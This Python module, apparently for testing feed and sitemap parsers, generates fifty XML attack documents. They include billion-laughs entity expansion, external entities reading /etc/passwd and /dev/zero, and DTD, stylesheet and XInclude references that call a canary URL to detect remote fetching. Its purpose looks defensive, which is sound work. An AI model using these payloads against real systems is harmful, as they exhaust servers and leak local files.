"""What can be done to whoever parses XML: fifty feeds and sitemaps."""

from collections.abc import Callable

FEED = '<rss version="2.0"><channel><title>{0}</title><item><title>One</title><link>{0}</link></item></channel></rss>'
ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><title>{0}</title><entry><title>{0}</title></entry></feed>'
SITEMAP = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{0}</loc></url></urlset>'
INDEX = (
    '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>{0}</loc></sitemap></sitemapindex>'
)
XML = '<?xml version="1.0"?>'

Wrap = Callable[[str], str]
"""A document of some kind around what is put into it."""


def _doubling(steps: int, ten: int = 10) -> str:
    entities = "".join(f'<!ENTITY e{step} "{f"&e{step - 1};" * ten}">' for step in range(1, steps))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{entities}]>'


def _with_attributes(pattern: str, count: int) -> str:
    return f"<a {' '.join(pattern.format(number) for number in range(count))}/>"


def _attacks(canary: str) -> dict[str, tuple[str, str]]:
    """What stands before the document and what inside it, by name."""
    deep = 100_000
    return {
        "billion laughs": (_doubling(10), "&e9;"),
        "quadratic blow-up": (f'<!DOCTYPE x [<!ENTITY e0 "{"ha" * 50_000}">]>', "&e0;" * 20_000),
        "entity of a file": ('<!DOCTYPE x [<!ENTITY e0 SYSTEM "file:///etc/passwd">]>', "&e0;"),
        "entity of a device": ('<!DOCTYPE x [<!ENTITY e0 SYSTEM "file:///dev/zero">]>', "&e0;"),
        "entity of a server": (f'<!DOCTYPE x [<!ENTITY e0 SYSTEM "{canary}entity">]>', "&e0;"),
        "definition of a server": (f'<!DOCTYPE x SYSTEM "{canary}definition.dtd">', "x"),
        "public definition": (f'<!DOCTYPE x PUBLIC "-//A//B//EN" "{canary}public.dtd">', "x"),
        "parameter entity": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}parameter"> %p;]>', "x"),
        "stylesheet": (f'<?xml-stylesheet type="text/xsl" href="{canary}style.xsl"?>', "x"),
        "entity within itself": ('<!DOCTYPE x [<!ENTITY e0 "&e1;"><!ENTITY e1 "&e0;">]>', "&e0;"),
        "inclusion": ("", f'<i xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{canary}include"/></i>'),
        "depth": ("", "<a>" * deep + "x" + "</a>" * deep),
        "depth without end": ("", "<a>" * deep),
        "attributes": ("", _with_attributes("a{0}='1'", deep)),
        "namespaces": ("", _with_attributes("xmlns:n{0}='u{0}'", 20_000)),
        "one attribute twice": ("", '<a b="1" b="2"/>'),
        "long name": ("", f"<{'a' * 1_000_000}/>"),
        "long value": ("", f'<a b="{"x" * 4_000_000}"/>'),
        "unknown entities": ("", "&nosuch;" * 50_000),
        "character references": ("", "&#x41;" * 500_000),
        "forbidden characters": ("", "&#0;&#x1F;&#xFFFF;\x00\x01"),
        "comment without end": ("", "<!--" + "-" * 500_000),
        "data without end": ("", "<![CDATA[" + "]]" * 500_000),
        "instructions": ("<?a b?>" * 100_000, "x"),
        "wrong encoding": ("", "\udcff\udcfe" * 1000),
    }


def xml_attacks(canary: str) -> dict[str, bytes]:
    """Fifty documents by name; they try to fetch what begins with `canary`."""
    attacks: dict[str, bytes] = {}
    for place, (name, (before, inside)) in enumerate(_attacks(canary).items()):
        for kind, wrap in (("feed", (FEED, ATOM)[place % 2]), ("sitemap", (SITEMAP, INDEX)[place % 2])):
            document = f"{XML}{before}{wrap.format(inside)}"
            attacks[f"{name} in a {kind}"] = document.encode("utf-8", "surrogateescape")
    return attacks
